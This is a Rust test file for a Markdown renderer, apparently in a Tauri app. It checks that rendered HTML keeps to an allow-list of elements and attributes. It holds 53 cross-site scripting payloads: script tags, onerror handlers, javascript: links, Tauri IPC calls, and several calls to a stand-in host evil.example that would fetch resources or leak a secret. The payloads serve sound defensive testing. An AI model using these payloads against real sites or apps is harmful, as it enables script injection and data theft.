//! Nothing but the allowed elements and attributes gets out, whatever goes in.

use std::collections::HashMap;

use render::Document;

use crate::render;

use crate::samples::{Dice, EVERYTHING};

const SPANS: [&str; 18] = [
    "math",
    "blocked",
    "hidden-char",
    "mono",
    "mono clip",
    "push",
    "line",
    "line add",
    "line del",
    "line hunk",
    "c",
    "k",
    "s",
    "n",
    "f",
    "t",
    "a",
    "m",
];

/// Attributes of MathML: words and lengths.
const MATHML: [(&str, &[&str]); 22] = [
    ("accent", &["true", "false"]),
    ("accentunder", &["true", "false"]),
    ("class", &["m-"]),
    ("columnspan", &[""]),
    ("depth", &[""]),
    ("displaystyle", &["true", "false"]),
    ("form", &["infix", "postfix", "prefix"]),
    ("height", &[""]),
    ("largeop", &["true", "false"]),
    ("linethickness", &[""]),
    ("lspace", &[""]),
    ("mathvariant", &["normal"]),
    ("maxsize", &[""]),
    ("minsize", &[""]),
    ("movablelimits", &["true", "false"]),
    ("rspace", &[""]),
    ("scriptlevel", &[""]),
    ("stretchy", &["true", "false"]),
    ("symmetric", &["true", "false"]),
    ("voffset", &[""]),
    ("width", &[""]),
    ("xmlns", &["never"]),
];

/// Elements, and their attributes with what their values must begin with.
fn allowed(element: &str) -> Option<HashMap<&'static str, &'static [&'static str]>> {
    let attributes: &[(&str, &[&str])] = match element {
        "p" => {
            &[("dir", &["auto"]), ("class", &["code-note", "callout-title", "plain", "plain-note"])]
        }
        "br" | "del" | "em" | "hr" | "kbd" | "mark" | "strong" | "sub" | "sup" | "thead" | "tr" => {
            &[]
        }
        "code" => &[("class", &["math-source"])],
        "math" => &[("display", &["block"])],
        "mfrac" | "mi" | "mmultiscripts" | "mn" | "mo" | "mover" | "mpadded" | "mphantom"
        | "mprescripts" | "mroot" | "mrow" | "mspace" | "msqrt" | "msub" | "msubsup" | "msup"
        | "mtable" | "mtd" | "mtext" | "mtr" | "munder" | "munderover" => &MATHML,
        "blockquote" | "h2" | "h3" | "h4" | "h5" | "h6" | "ul" => &[("dir", &["auto"])],
        "ol" => &[("dir", &["auto"]), ("start", &[""])],
        "li" | "tbody" => &[("data-line", &[""])],
        "th" | "td" => &[("dir", &["auto"]), ("class", &["mid", "r", "rtl", "wide"])],
        "table" => &[("class", &["table"])],
        "div" => &[
            ("class", &["prose-table", "footnote", "callout callout-", "diagram-view"]),
            ("dir", &["auto", "rtl"]),
            ("role", &["region"]),
            ("aria-label", &["Table"]),
            ("tabindex", &["0"]),
            ("data-fold", &["shut", "open", "summary", "end"]),
            ("data-line", &[""]),
        ],
        "span" => &[("class", &SPANS), ("data-line", &[""]), ("data-tex", &[""])],
        "a" => &[("href", &["https://", "http://", "mailto:"]), ("data-link", &[""])],
        "img" => &[
            ("src", &["data:image/"]),
            ("alt", &[""]),
            ("class", &["on-light", "on-dark"]),
            ("width", &[""]),
            ("height", &[""]),
        ],
        "input" => &[
            ("type", &["checkbox"]),
            ("aria-label", &["Done", "Not done"]),
            ("disabled", &[""]),
            ("checked", &[""]),
        ],
        "figure" => &[("class", &["code", "diagram"]), ("aria-label", &[""])],
        "figcaption" => &[("class", &["code-head"])],
        "pre" => &[("tabindex", &["0"])],
        "button" => &[
            ("type", &["button"]),
            ("class", &["btn btn-quiet"]),
            (
                "data-act",
                &[
                    "copy-code",
                    "copy-tex",
                    "fold-code",
                    "load-picture",
                    "number-lines",
                    "show-formatted",
                    "show-source",
                    "wrap-lines",
                    "zoom",
                ],
            ),
            ("data-picture", &[""]),
        ],
        _ => return None,
    };
    Some(attributes.iter().copied().collect())
}

/// Walks the tags of `html`, and fails at anything unexpected.
pub(crate) fn check(html: &str, source: &str) {
    let mut open: Vec<&str> = vec![];
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        assert!(!rest[..start].contains('>'), "bare > in {html} from {source:?}");
        let end = start + rest[start..].find('>').expect("a tag ends");
        let tag = &rest[start + 1..end];
        rest = &rest[end + 1..];
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop(), Some(name), "well nested: {html} from {source:?}");
            continue;
        }
        let name = tag.split(' ').next().unwrap();
        let attributes = allowed(name).unwrap_or_else(|| panic!("<{tag}> from {source:?}"));
        check_attributes(tag[name.len()..].trim_start(), &attributes, source);
        if !["br", "hr", "img", "input"].contains(&name) {
            open.push(name);
        }
    }
    assert!(open.is_empty(), "all closed: {html} from {source:?}");
}

fn check_attributes(text: &str, allowed: &HashMap<&str, &[&str]>, source: &str) {
    let mut rest = text;
    while !rest.is_empty() {
        let (name, after) = rest.split_once("=\"").expect("a quoted value");
        let (value, after) = after.split_once('"').expect("a quoted value");
        let values = allowed.get(name).unwrap_or_else(|| panic!("{name} from {source:?}"));
        assert!(values.iter().any(|v| value.starts_with(v)), "{name}={value} from {source:?}");
        rest = after.trim_start();
    }
}

/// Our own, written after what is known of attacks on programs like this one.
const PAYLOADS: [&str; 53] = [
    "<script>__TAURI_INTERNALS__.invoke('x')</script>",
    "<img src=x onerror=\"__TAURI_INTERNALS__.invoke('open_link',{url:'file:///'})\">",
    "<svg/onload=fetch('https://evil.example')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<form action=\"https://evil.example\"><input name=key><button>Go</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](calculator://)",
    "[x](ms-msdt:/id)",
    "[x](\\\\host\\share)",
    "[x](https://a.b/\"onclick=\"alert(1))",
    "[x](https://a.b/ \"t\\\" onmouseover=\\\"alert(1)\")",
    "[a\">b](https://a.b/<script>)",
    "<javascript:alert(1)>",
    "<https://a.b/\"onclick=alert(1)//>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://a.b/c.png)",
    "![\"><script>alert(1)</script>](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/png;base64,AAAA\"onload=\"alert(1))",
    "![a][r]\n\n[r]: https://evil.example/?q=secret",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```rust title=\"\"><script>alert(1)</script>\"\ncode\n```",
    "```rust <img/src=x/onerror=alert(1)>.rs\ncode\n```",
    "```html\n</span></code><script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "```diff\n+</span><script>alert(1)</script>\n@@ <b> @@\n```",
    "> [!NOTE] <script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
    "```html onload=x\n</code></pre></figure><script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "| <script> | b |\n|---|---|\n| </td><img src=x onerror=alert(1)> | c |",
    "[^\"><script>]: <script>alert(1)</script>\n\na[^\"><script>]",
    "# <script>alert(1)</script>",
    "- <details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
];

#[test]
fn payloads_become_text() {
    for payload in PAYLOADS {
        let html = render(payload).concat();
        check(&html, payload);
        for word in ["javascript:", "onerror=", "<script"] {
            if let Some(at) = html.find(word) {
                let tag = html[..at].rfind('<').unwrap_or(0);
                let closed = html[tag..at].contains('>');
                assert!(closed, "{word} inside a tag: {html}");
            }
        }
    }
}

#[test]
fn half_payloads_become_text_too() {
    for payload in PAYLOADS {
        let mut document = Document::new(&crate::blocks::WORDS);
        for (at, character) in payload.char_indices() {
            document.push(&payload[at..at + character.len_utf8()]);
            check(&document.blocks().concat(), payload);
        }
    }
}

#[test]
fn payloads_inside_anything() {
    for payload in PAYLOADS {
        for (before, after) in [
            ("- ", "\n- x"),
            ("> ", ""),
            ("**", "**"),
            ("[", "](https://a.b)"),
            ("| ", " |\n|---|\n| x |"),
            ("a | ", "\n---|---\nb"),
            ("`", "`"),
            ("![", "](https://a.b)"),
            ("<b ", ">"),
            ("[^1]: ", "\n\n[^1]"),
        ] {
            let text = format!("{before}{payload}{after}");
            check(&render(&text).concat(), &text);
        }
    }
}

#[test]
fn soup_stays_inside_the_list() {
    let mut dice = Dice(9);
    for _ in 0..3000 {
        let text = dice.soup(40) + PAYLOADS[dice.below(PAYLOADS.len())] + &dice.soup(10);
        check(&render(&text).concat(), &text);
        let mut document = Document::new(&crate::blocks::WORDS);
        document.push(&text);
        check(&document.blocks().concat(), &text);
    }
    check(&render(EVERYTHING).concat(), EVERYTHING);
}

#[test]
fn checker_can_fail() {
    for bad in [
        "<script>x</script>",
        "<p onclick=\"x\">a</p>",
        "<a href=\"javascript:x\">a</a>",
        "<p dir=\"auto\">a",
        "<p>a</div>",
        "<img src=\"https://x.org\">",
    ] {
        assert!(std::panic::catch_unwind(|| check(bad, bad)).is_err(), "{bad}");
    }
}
